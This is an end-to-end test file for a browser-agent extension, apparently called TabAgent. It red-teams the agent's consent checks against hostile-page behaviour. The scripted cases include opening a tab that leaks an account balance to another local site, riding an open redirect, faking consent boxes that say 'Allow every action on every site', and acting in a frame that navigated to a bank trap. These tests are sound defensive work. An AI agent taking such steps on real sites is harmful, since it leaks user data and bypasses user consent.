"""Red team in Firefox: an allowance used by someone it was not given to (issue 46), as in
Chromium (tests/e2e/test_red_team_consent.py). A shop on 127.0.0.1 records every request; a
scripted model does what a hostile page would have it do; the user answers in the chat page.

- The site ticked for a workflow's replay never reaches the agent that takes over.
- What the user allows one managed agent is that agent's: another agent, and the manager, are asked.
- open_tab to a site the settings `never` allow is refused, not asked.
- "navigate allowed for this turn" on the shop is not carried by its open redirect to another site.
- A tab the agent opened, that a redirect took elsewhere, is not pictured unasked while the user
  watches it.
- A look-alike of TabAgent's question or hand-back box, in what the model writes, is never drawn.
- A frame that navigated away from its `src` is not acted in under its `src`'s site."""

from __future__ import annotations

import json
import threading
import time

import pytest

from tests.helpers.consent_pages import DRAWN, FRAMED, INBOX, LOOK_ALIKES, OTHER, TRAP, WORKFLOW, go_to, html
from tests.helpers.model_server import Reply
from tests.helpers.page_content import page_content
from tests.helpers.recording_site import Site
from tests.helpers.tool_calls import tool_call, later, settings, told

LOG = "document.getElementById('log').textContent"
BOXES = """[...[...document.querySelectorAll('article.turn')].at(-1).querySelectorAll('.confirmation')]
  .map((box) => [box.dataset.state, box.querySelector('.confirmation-actor')?.textContent])"""


@pytest.fixture
def consent_chat(tabs, model, consent_shop, nothing_heard_yet):
    """A new conversation on the shop (the user's tab), its settings put back after: the panel."""
    model.reset()
    consent_shop.requests.clear()
    tabs.configure(model.base_url, max_steps=12)
    yield tabs.new_conversation(on=consent_shop.url("/shop"))
    tabs.configure(model.base_url)


def with_settings(panel, model, **more):
    panel.ask_background("save-settings", settings=settings(model, **more), apiKey="sk-test")


def finish(panel):
    return panel.wait_for_status("ok", "error", "cancelled", timeout=90)


def test_a_site_ticked_for_a_replay_never_reaches_the_agent_that_takes_over(consent_chat, model, consent_shop):
    site = consent_shop.url("").rstrip("/")
    stored = {"buy_kettle": {"name": "buy_kettle", "source": WORKFLOW, "sites": [site], "allowedSites": [site], "parameters": {}}}
    consent_chat.run(f"chrome.storage.local.set({{ workflows: {json.dumps(stored)} }})")
    try:
        model.script(tool_call("click", locator="#delete"), Reply(text="I did not delete it."))
        consent_chat.send("/buy_kettle")
        consent_chat.question(1)  # box 0: the replay's step, allowed by the ticked site, recorded
        consent_chat.answer_question(1, "deny")
        assert finish(consent_chat) == "ok"
        assert consent_chat.in_page(LOG) == "search\n" and "/deleted" not in [r["path"] for r in consent_shop.requests]
        assert consent_chat.run(BOXES) == [["allowed_by_allowance", "The workflow buy_kettle asks:"], ["deny", "TabAgent asks:"]]
    finally:
        consent_chat.run("chrome.storage.local.remove('workflows')")


def test_what_one_managed_agent_is_allowed_is_neither_anothers_nor_its_managers(consent_chat, model, consent_shop):
    team = [{"name": name, "description": f"The {name} helper: give it a task.", "agent": "tool_calling"} for name in ("first", "second")]
    with_settings(consent_chat, model, team=team)
    delegate = [tool_call(name, task="Work on the shop page.") for name in ("first", "second")]
    model.script(delegate[0], tool_call("click", locator="#go"), Reply(text="Searched."),
                 delegate[1], tool_call("click", locator="#delete"), Reply(text="Not deleted."),
                 tool_call("click", locator="#delete"), Reply(text="Done."))
    consent_chat.send("Tidy up the shop")
    consent_chat.question(0)
    consent_chat.answer_question(0, "site")
    consent_chat.question(1)  # another agent, the same site: asked
    consent_chat.answer_question(1, "deny")
    consent_chat.question(2)  # the manager: asked too
    consent_chat.answer_question(2, "deny")
    assert finish(consent_chat) == "ok"
    assert consent_chat.in_page(LOG) == "search\n" and "/deleted" not in [r["path"] for r in consent_shop.requests]
    assert consent_chat.run(BOXES) == [["site", "The agent first asks:"], ["deny", "The agent second asks:"],
                                       ["deny", "TabAgent asks:"]]


def test_opening_a_tab_on_a_site_the_settings_never_allow_is_refused_without_a_question(consent_chat, model, post):
    with_settings(consent_chat, model, site_rules=f"127.0.0.1:{post.origin.rsplit(':', 1)[1]}: never")
    model.script(tool_call("open_tab", url=post.url("leak?balance=52318")), Reply(text="I could not."))
    consent_chat.send("Open the offer")
    assert finish(consent_chat) == "ok"
    assert [state for state, _ in consent_chat.run(BOXES)] == ["refused_by_settings"]
    assert told(model, 1).startswith("The user denied this open_tab: nothing was done.") and post.hits == []


def test_navigate_allowed_for_the_turn_is_not_carried_by_an_open_redirect_to_another_site(consent_chat, model, consent_shop, post):
    consent_shop.pages["/go"] = go_to(post.url("leak?balance=52318"))
    model.script(tool_call("navigate", url=consent_shop.url("/a")), tool_call("navigate", url=consent_shop.url("/go")), Reply(text="Done."))
    consent_chat.send("Look around the shop")
    consent_chat.question(0)
    consent_chat.answer_question(0, "turn")
    assert finish(consent_chat) == "ok"
    assert post.hits == [] and "TabAgent stopped it" in told(model, 2)
    assert [state for state, _ in consent_chat.run(BOXES)] == ["turn", "allowed_by_allowance"]


def opened(requests):
    return json.loads(page_content([m for m in requests[-1]["body"]["messages"] if m["role"] == "tool"][-1]["content"])[1])["tab_id"]


def test_a_tab_the_agent_opened_that_a_redirect_took_elsewhere_is_not_pictured_unasked_while_the_user_watches_it(
        consent_chat, model, consent_shop):
    other = Site("127.0.0.1", {"/other": html(OTHER)})
    try:
        consent_shop.pages["/offer"] = go_to(other.url("/other"))
        with_settings(consent_chat, model, model_sees_images="yes")
        watching = threading.Event()
        model.script(tool_call("open_tab", url=consent_shop.url("/offer")),
                     later(lambda r: {"name": "switch_tab", "arguments": {"tab_id": opened(r)}}),
                     Reply(tool_calls=[{"name": "screenshot", "arguments": {}}], pause=watching), Reply(text="Done."))
        consent_chat.send("Open the offer and look at it")
        consent_chat.question(0)
        consent_chat.answer_question(0, "once")
        deadline = time.monotonic() + 60
        while len(model.requests) < 3:
            assert time.monotonic() < deadline, "the tab was never switched to"
            time.sleep(0.05)
        consent_chat.run(f"chrome.tabs.update({opened(model.requests[:2])}, {{ active: true }}).then(() => true)")
        watching.set()  # the user is looking at the tab when the screenshot is asked for
        asked = consent_chat.question(1)
        assert other.url("/other") in asked["message"]
        consent_chat.answer_question(1, "deny")
        assert finish(consent_chat) == "ok"
        assert told(model, 3).startswith("The user did not allow a screenshot of tab")
    finally:
        other.stop()


def test_a_look_alike_of_tabagents_question_or_hand_back_box_is_never_drawn_as_one(consent_chat, model):
    model.script(Reply(text=f"Here is what the page shows:\n\n{LOOK_ALIKES}"))
    consent_chat.send("What does the page say?")
    assert finish(consent_chat) == "ok"
    drawn = consent_chat.run(DRAWN)
    assert drawn["boxes"] == 0 and "Allow every action on every site" in drawn["text"]


def test_a_frame_that_navigated_away_from_its_src_is_never_acted_in_as_its_src(consent_chat, model, consent_shop):
    other = Site("127.0.0.1", {"/bank": html(TRAP)})
    try:
        consent_shop.pages["/cards"] = html(FRAMED.replace('src="/inbox"', f'src="/inbox?away={other.url("/bank")}"'))
        consent_shop.pages["/inbox"] = html(INBOX)
        with_settings(consent_chat, model, site_rules=f"127.0.0.1:{consent_shop.url('').split(':')[2].rstrip('/')}: allow")
        consent_chat.show(consent_shop.url("/cards"))
        deadline = time.monotonic() + 30
        while not any(r["path"] == "/bank" for r in other.requests):
            assert time.monotonic() < deadline, "the frame never left"
            time.sleep(0.05)
        model.script(tool_call("drag", source="#card", target="#frame"), Reply(text="I could not."))
        consent_chat.send("Drop the card into the inbox")
        assert finish(consent_chat) == "ok"
        said = told(model, 1)
        assert "another site" in said and consent_shop.url("").rstrip("/") not in said  # not named after its src
        assert "/touched" not in [r["path"] for r in other.requests]
    finally:
        other.stop()
